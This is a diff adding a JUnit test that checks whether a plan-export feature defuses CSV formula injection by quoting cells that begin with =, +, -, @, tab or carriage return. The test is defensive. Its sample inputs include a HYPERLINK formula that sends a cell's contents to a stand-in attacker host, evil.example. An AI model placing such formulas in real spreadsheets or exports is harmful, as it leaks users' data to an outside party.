@@ -5,6 +5,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
+import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
 import java.time.LocalDate;
 import java.time.OffsetDateTime;
@@ -12,6 +13,8 @@ import java.time.ZoneOffset;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.text.PDFTextStripper;
@@ -110,6 +113,79 @@ class PlanExportTest {
     assertTrue(lines[1].contains(";Två IKT-pedagoger på förskolan;"), lines[1]);
     assertTrue(
         lines[1].contains("\"Pedagogerna \"\"IKT-träffar\"\"; en gång i månaden\""), lines[1]);
+  }
+
+  /**
+   * A title typed by a principal must not become a formula in leadership's spreadsheet (CSV
+   * injection): every such cell comes out as text, with a single quote in front.
+   */
+  @Test
+  void aCellThatWouldStartAFormulaComesOutAsText() throws Exception {
+    List<String> formulas =
+        List.of(
+            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klicka här\")",
+            "+1",
+            "-1",
+            "@SUM(A1:A9)",
+            "\tx",
+            "\rx");
+    List<Activity> activities = new java.util.ArrayList<>();
+    for (int i = 0; i < formulas.size(); i++) {
+      String f = formulas.get(i);
+      activities.add(
+          new Activity(
+              plan.id(),
+              i + 1,
+              new Activity.Content(
+                  AREA,
+                  List.of(),
+                  f,
+                  f,
+                  List.of(),
+                  List.of(),
+                  f,
+                  f,
+                  LocalDate.of(2025, 9, 1),
+                  LocalDate.of(2025, 10, 31),
+                  f),
+              "rektor.botkyrka",
+              AT));
+    }
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    new PlanExport(
+            new PlanExport.Document(
+                plan,
+                activities,
+                "Älvsjö förskola",
+                Map.of(AREA, "=1+1"),
+                Map.of(),
+                AT.toLocalDate()),
+            "sv")
+        .csv(out);
+
+    String csv = new String(out.toByteArray(), 3, out.size() - 3, StandardCharsets.UTF_8);
+    List<CSVRecord> rows =
+        CSVFormat.Builder.create()
+            .setDelimiter(';')
+            .get()
+            .parse(new StringReader(csv))
+            .getRecords();
+    assertEquals(formulas.size() + 1, rows.size(), csv);
+    for (int i = 0; i < formulas.size(); i++) {
+      CSVRecord row = rows.get(i + 1);
+      String f = formulas.get(i);
+      assertEquals("'" + f, row.get(1), "title");
+      assertEquals("'=1+1", row.get(2), "priority area");
+      assertEquals("'" + f, row.get(4), "target group");
+      assertEquals("'" + f, row.get(5), "owner");
+      assertEquals("'" + f, row.get(11), "success criteria");
+      assertEquals("'" + f, row.get(12), "description");
+      for (String cell : row) {
+        assertTrue(
+            cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0,
+            "no cell starts a formula: " + row);
+      }
+    }
   }
 
   @Test
